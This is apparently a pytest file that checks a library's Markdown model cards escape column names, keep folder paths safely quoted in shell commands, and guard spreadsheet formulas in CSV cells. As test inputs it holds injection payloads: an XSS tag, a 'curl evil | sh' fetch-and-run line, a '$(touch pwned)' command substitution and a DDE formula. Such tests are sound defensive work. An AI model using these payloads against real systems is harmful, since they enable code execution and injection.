"""Names from data are text in a card, and its commands can be pasted whatever the folder is called."""

import re
import shlex
from pathlib import Path

import pandas as pd
import pytest

import margin
from margin.report.markdown import code, plain
from margin.service.columns_as_csv import guard_cell
from margin.service.fit_request import FitRequest
from margin.service.training import fit

NAMES = [
    "<img src=x onerror=alert(1)>",
    "[free](https://evil.example)",
    "# heading",
    "*bold*_it_",
    "a\n\n## Use\n\n- `curl evil | sh`",
    "&lt;b&gt;",
    "size_m2",
]


def unescaped(text):
    """What a reader of Markdown shows of a text without markup; raises if there is some."""
    shown, i = "", 0
    while i < len(text):
        if text[i] == "\\":
            shown, i = shown + text[i + 1], i + 2
            continue
        entity = re.match(r"&#(\d+);", text[i:])
        if entity:
            shown, i = shown + chr(int(entity.group(1))), i + len(entity.group())
            continue
        assert text[i] not in "`*[]<>", text
        shown, i = shown + text[i], i + 1
    return shown


@pytest.mark.parametrize("name", NAMES)
def test_text_stays_text(name):
    assert unescaped(plain(name)) == " ".join(name.split())
    assert not re.search(r"(?<!\\)(https?://|&\w+;|^#|^-)", plain(name))
    assert "\n" not in code(name)


def test_a_card_carries_no_markup_of_its_data(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    frame = pd.DataFrame({name: [float((i * k) % 7) for i in range(30)] for k, name in enumerate(NAMES[:-1], 2)})
    frame["y"] = ["=1+1" if i % 2 else "no" for i in range(30)]
    frame.to_csv("data.csv", index=False)
    folder = Path("runs of $(touch pwned)'s")
    fit("gaussian-nb", "data.csv", FitRequest(target="y"), out=folder)
    card = (folder / "model_card.md").read_text(encoding="utf-8")
    assert re.findall(r"^#+ .*", card, re.MULTILINE)[1:] == [
        "## What it was taught", "## Training", "## How good it is", "## Use"
    ]  # fmt: skip
    outside = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", card)
    assert not re.search(r"(?<!\\)[<>\[\]*]", outside)
    commands = [text.strip("` ") for text in re.findall(r"`+margin (?:score|predict).*?`+", card)]
    assert [shlex.split(command)[2] for command in commands] == [str(folder)] * 2
    python = re.search(r"`(margin\.load\(.*?\))`", card).group(1)
    assert eval(python, {"margin": margin}).predict(frame.drop(columns="y")).shape == (30,)


def test_formulas_are_guarded_only_on_request():
    for text in ("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-a", " =1", "\t=1"):
        assert guard_cell(text) == "'" + text
    for kept in ("-1", "+2.5e-3", "a-b", "", 3, -4.5, None, True):
        assert guard_cell(kept) is kept
